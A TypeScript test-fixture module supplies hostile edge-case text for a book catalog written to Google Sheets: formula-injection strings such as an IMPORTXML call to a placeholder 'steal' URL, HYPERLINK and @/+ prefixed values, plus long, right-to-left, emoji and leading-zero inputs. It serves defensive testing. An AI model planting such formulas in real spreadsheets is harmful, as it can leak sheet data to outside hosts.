// Text crafted to be dangerous in a sheet, switched on with `dangerousData`: strings that setValues would
// turn into formulas, numbers or dates, a 50,000-character cell, right-to-left text, emoji, line breaks,
// ISBNs whose leading zeros a careless writer drops. Figures are unchanged: only text is replaced.

import type { Book, Series } from './catalog.ts';

/** Exactly 50,000 characters: the most one Sheets cell holds. */
const LONG_TEXT = 'A very long title. '.repeat(2_700).slice(0, 50_000);

const TITLES: readonly string[] = [
  '=IMPORTXML("https://example.invalid/steal","//a")',
  '+44 20 7946 0958',
  '-1',
  '@SUM(A1:A9)',
  '1/2',
  LONG_TEXT,
  'كتاب الرمال — ספר החול',
  '🐉 Dragons & 🚀 Rockets 👩🏽‍🚀',
  '=1+1',
  '00123',
];

const SUBTITLES: readonly string[] = [
  '=HYPERLINK("https://example.invalid","click me")',
  'line one\nline two',
];

const SERIES_NAMES: readonly string[] = [
  '=HYPERLINK("https://example.invalid","series")',
  '@series',
  '+Plus',
];

interface BookText {
  readonly title: string;
  readonly subtitle: string;
  readonly isbn: string | null;
}

export function bookText(book: Book, dangerous: boolean): BookText {
  if (!dangerous) return { title: book.title, subtitle: book.subtitle, isbn: book.isbn };
  return {
    title: TITLES[book.index] ?? book.title,
    subtitle: SUBTITLES[book.index] ?? book.subtitle,
    // An ISBN-10 of the 0- group: leading zeros that must survive as text.
    isbn: `00${String(1_234_567 + book.index * 7).padStart(8, '0')}`,
  };
}

export function seriesName(series: Series, index: number, dangerous: boolean): string {
  return (dangerous ? SERIES_NAMES[index] : undefined) ?? series.name;
}
